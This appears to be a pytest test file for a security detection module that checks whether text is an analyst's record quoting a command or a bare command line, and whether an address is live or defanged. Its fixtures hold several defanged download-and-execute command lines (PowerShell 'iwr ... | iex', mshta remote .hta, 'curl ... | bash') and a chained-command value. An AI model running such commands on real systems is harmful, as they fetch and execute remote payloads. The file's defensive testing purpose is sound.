"""An analyst's record quotes a command as a value; a line that starts with one is no record."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection.records import is_record, live_address

RECORDS = [
    "Incident 1187 entities\nHost: WS-0412\nProcess: mshta.exe hxxps://docs-share[.]click/p.hta"
    "\nVerdict: true positive",
    '{\n  "title": "Suspicious PowerShell",\n  "processCommandLine": "powershell -w h -c '
    'iwr hxxps://x[.]top/c | iex"\n}',
    "Time | Device | Detail\n2024-12-03 09:11:58 | WS-0231 | powershell -w h -c iwr "
    "hxxps://x[.]top/c|iex",
    "| Time | Device |\n| 09:11 | WS-0231 |",
    "SOC-4412 triage notes\n- 09:12 Defender alert on WS-0231\n- Parent: explorer.exe -> "
    'powershell.exe -w h -c "iex(irm hxxps://x[.]top/v)"\n- Status: contained',
    "Containment checklist\n[x] Host: WS-0231 isolated\n[ ] Triage package: not collected yet",
    "Dec 04 10:00:01 web01 sshd[1123]: Accepted publickey for deploy\nDec 04 10:00:02 web01 "
    "systemd[1]: Started Session 41",  # a sandbox's process tree: the root with its id, branches drawn in front of the children
    'Process tree\nexplorer.exe (PID 4120)\n └─ powershell.exe -w hidden -c "iex(iwr '
    'hxxps://x[.]top/p)" (PID 6644)\n     └─ rundll32.exe C:\\Users\\a\\x.dll,Start (PID 7012)',
    # indicators alone on their lines, as IOC lists give them
    "IOCs (defanged)\n- cdn-check[.]example\n- 185.220.101[.]14\n- SHA256 "
    + "8f3a1c2d" * 8
    + "\nCommand seen in RunMRU: mshta hxxps://cdn-check[.]example/v.hta",
    "Indicators\nDomain: verify[.]example\nhxxps://verify[.]example/c.hta\n" + "ab" * 16,
]


@pytest.mark.parametrize("text", RECORDS)
def test_a_record_is_read_as_one(text: str) -> None:
    assert is_record(text)


@pytest.mark.parametrize(
    "text",
    [
        # a line of it starts a program
        "Host: WS-0412\npowershell -w h -c iwr hxxps://x[.]top/c|iex",
        "Alert: blocked\nmshta hxxps://x[.]top/p.hta",
        "Host: WS-0412\ncurl -fsSL hxxps://x[.]top/i.sh | bash",
        "Note: see below\ncmd /c start hxxps://x[.]top",
        # a field named after a program: the label is the command
        "Host: WS-0412\npowershell: -w h -c iwr hxxps://x[.]top/c",
        # a shell's pipeline is no table's row
        "Host: WS-0412\ncat a | grep b | sh",
        # one line is no record
        "Process: mshta.exe hxxps://x[.]top/p.hta",
        # a program line with no id after it, a host that is not defanged, a word that is no
        # hash: none of them a tree's row or an indicator
        "Process tree\npowershell.exe -w hidden -c iwr hxxps://x[.]top/p | iex",
        "Process tree\nexplorer.exe\nVerdict: blocked",
        "IOCs\n- cdn-check.example\nVerdict: blocked",
        "IOCs\n- deadbeefcafe\nVerdict: blocked",
        "IOCs\n- x[.]top && curl hxxps://x[.]top/i.sh\nVerdict: blocked",
        "",
    ],
)
def test_what_is_not_a_record(text: str) -> None:
    assert not is_record(text)


def test_a_live_address_is_told_from_a_defanged_one() -> None:
    assert live_address("iwr https://verify-cdn.top/c | iex")
    assert live_address("ftp://files.example.org/a")
    assert not live_address("iwr hxxps://verify-cdn[.]top/c | iex")
    assert not live_address("https://verify-cdn[.]top/c")
    assert not live_address("Host: WS-0412")


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=4000))
def test_any_text_is_read_quickly_and_without_error(text: str) -> None:
    started = time.perf_counter()
    is_record(text)
    live_address(text)
    assert time.perf_counter() - started < 0.2


def test_a_hostile_record_is_read_in_linear_time() -> None:
    started = time.perf_counter()
    is_record(("Key: " + "a" * 2000 + "\n") * 200)
    is_record(("| " * 1000 + "\n") * 200)
    is_record(("aaaa " * 400 + ":\n") * 200)
    assert time.perf_counter() - started < 1.0
